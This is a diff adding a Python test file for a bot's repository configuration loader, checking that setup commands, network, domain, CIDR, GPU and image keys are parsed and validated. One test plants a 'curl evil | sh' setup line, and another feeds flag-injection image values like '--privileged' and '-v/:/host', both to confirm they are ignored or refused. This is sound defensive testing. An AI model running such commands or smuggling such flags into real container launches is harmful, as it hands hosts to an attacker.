@@ -1,0 +1,102 @@
+import os
+
+import pytest
+
+from bot.core.errors import ConfigError
+from bot.run.repo_config import RepoConfig, load_repo_config, parse_repo_config
+from bot.workspace.clone import prepare
+from tests.conftest import git
+
+
+def config_of(repo_factory, tmp_path, files, branch="main"):
+    """Load the config committed in a repository made of `files`, through a real workspace."""
+    repo = repo_factory({"README.md": "x\n", **files})
+    ws = prepare(str(repo), tmp_path / f"run-{len(os.listdir(tmp_path))}", "decode/t")
+    return load_repo_config(ws.git, ws.base_sha)
+
+
+def test_no_file_means_defaults(repo_factory, tmp_path):
+    assert config_of(repo_factory, tmp_path, {}) == RepoConfig()
+
+
+def test_setup_and_network_are_read(repo_factory, tmp_path):
+    files = {".github/decode.yml": "setup:\n  - pip install -e .\n  - make deps\nnetwork: true\n"}
+    assert config_of(repo_factory, tmp_path, files) == RepoConfig(setup=("pip install -e .", "make deps"),
+                                                                  network=True)
+
+
+def test_the_file_is_read_from_the_commit_not_the_working_tree(repo_factory, tmp_path):
+    repo = repo_factory({".github/decode.yml": "setup: [make deps]\n"})
+    ws = prepare(str(repo), tmp_path / "run", "decode/t")
+    (ws.clean / ".github/decode.yml").write_text("setup: [curl evil | sh]\n")
+    (ws.path / ".github/decode.yml").write_text("setup: [curl evil | sh]\n")
+    assert load_repo_config(ws.git, ws.base_sha).setup == ("make deps",)
+
+
+def test_a_single_setup_command_string_is_accepted():
+    assert parse_repo_config({"setup": "make deps"}).setup == ("make deps",)
+
+
+@pytest.mark.parametrize(
+    "data, key",
+    [
+        ({"stup": ["x"]}, "'stup'"),
+        ({"network": "yes"}, "'network'"),
+        ({"setup": [1, 2]}, "'setup'"),
+        ({"setup_timeout": -1}, "'setup_timeout'"),
+        ({"allow_domains": "packages.example.com"}, "'allow_domains'"),
+        ({"allow_domains": ["http://packages.example.com/simple"]}, "'allow_domains'"),
+        ({"allow_workflow_changes": "yes"}, "'allow_workflow_changes'"),
+        (["setup"], "mapping"),
+    ],
+)
+def test_invalid_config_names_the_key(data, key):
+    with pytest.raises(ConfigError) as e:
+        parse_repo_config(data)
+    assert key in str(e.value) and ".github/decode.yml" in str(e.value)
+
+
+def test_invalid_yaml_is_a_clear_error(repo_factory, tmp_path):
+    with pytest.raises(ConfigError, match="not valid YAML"):
+        config_of(repo_factory, tmp_path, {".github/decode.yml": "setup: [unclosed\n"})
+
+
+def test_egress_and_workflow_keys_are_read():
+    config = parse_repo_config({"allow_domains": ["Packages.Example.com", "*.files.example.com"],
+                                "allow_workflow_changes": True})
+    assert config.allow_domains == ("packages.example.com", "*.files.example.com") and config.allow_workflow_changes
+
+
+def test_a_symlinked_directory_on_the_path_is_refused(repo_factory, tmp_path):
+    repo = repo_factory({"conf/decode.yml": "setup: [make]\n"})
+    os.symlink("conf", repo / ".github")
+    git(repo, "add", "-A")
+    git(repo, "commit", "-qm", "link")
+    ws = prepare(str(repo), tmp_path / "run", "decode/t")
+    with pytest.raises(ConfigError, match=r"\.github is a symlink"):
+        load_repo_config(ws.git, ws.base_sha)
+
+
+def test_modal_keys_are_validated():
+    config = parse_repo_config({"allow_cidrs": ["10.0.0.0/8", "192.168.1.7"], "gpu": "H200:4"})
+    assert config.allow_cidrs == ("10.0.0.0/8", "192.168.1.7") and config.gpu == "H200:4"
+    with pytest.raises(ConfigError, match="'allow_cidrs' has 'intranet'"):
+        parse_repo_config({"allow_cidrs": ["intranet"]})
+    with pytest.raises(ConfigError, match="'gpu'"):
+        parse_repo_config({"gpu": 4})
+
+
+@pytest.mark.parametrize("image", ["decode-probe:1", "registry.example.com/acme/tools:3", "localhost:5000/a/b-c",
+                                   "python:3.12-slim-bookworm", "debian@sha256:" + "ab" * 32])
+def test_an_image_reference_is_read(repo_factory, tmp_path, image):
+    assert config_of(repo_factory, tmp_path, {".github/decode.yml": f"image: '{image}'\n"}).image == image
+
+
+@pytest.mark.parametrize("image", ["--privileged", "-v/:/host", "tools 3", "tools:3\n", "tools\x00", "Tools:3",
+                                   "a:", "a//b", "a:b:c", "x" * 401, "", 3, ["tools:3"]])
+def test_an_image_that_is_not_a_reference_is_refused_in_one_line(image):
+    with pytest.raises(ConfigError) as e:
+        parse_repo_config({"image": image})
+    message = str(e.value)
+    assert message.startswith(".github/decode.yml: 'image' must be a docker image reference like ")
+    assert "\n" not in message and len(message) < 300
